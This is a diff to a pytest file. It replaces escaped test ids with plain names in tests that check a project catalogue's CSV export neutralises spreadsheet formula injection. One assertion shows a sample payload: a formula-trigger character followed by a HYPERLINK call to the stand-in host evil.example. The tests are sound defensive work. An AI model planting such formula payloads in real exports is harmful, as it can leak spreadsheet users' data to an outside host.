@@ -88,6 +88,16 @@ def test_atom_feed_lists_submitted_and_authorised_projects(client, data):
 # Defect 6: a cell a spreadsheet would read as a formula is neutralised (OWASP "CSV
 # Injection"): a single quote before it, and every cell quoted.
 FORMULA_TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "\n"]
+# Plain names: test ids with escapes cannot be selected again on a command line.
+TRIGGER_NAMES = {
+    "=": "equals",
+    "+": "plus",
+    "-": "minus",
+    "@": "at",
+    "\t": "tab",
+    "\r": "carriage-return",
+    "\n": "line-feed",
+}
 
 
 @pytest.fixture
@@ -106,7 +116,7 @@ def formula_project(demo_catalog):
     return make
 
 
-@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS, ids=repr)
+@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS, ids=TRIGGER_NAMES.get)
 def test_csv_cells_starting_with_a_formula_character_are_read_as_text(
     client, formula_project, trigger
 ):
@@ -125,7 +135,7 @@ def test_csv_cells_starting_with_a_formula_character_are_read_as_text(
     assert f'"HDH-2024-0099","\'{trigger}HYPERLINK(""http://evil.example/' in text
 
 
-@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS, ids=repr)
+@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS, ids=TRIGGER_NAMES.get)
 def test_json_export_keeps_the_exact_text(client, formula_project, trigger):
     project = formula_project(trigger)
 
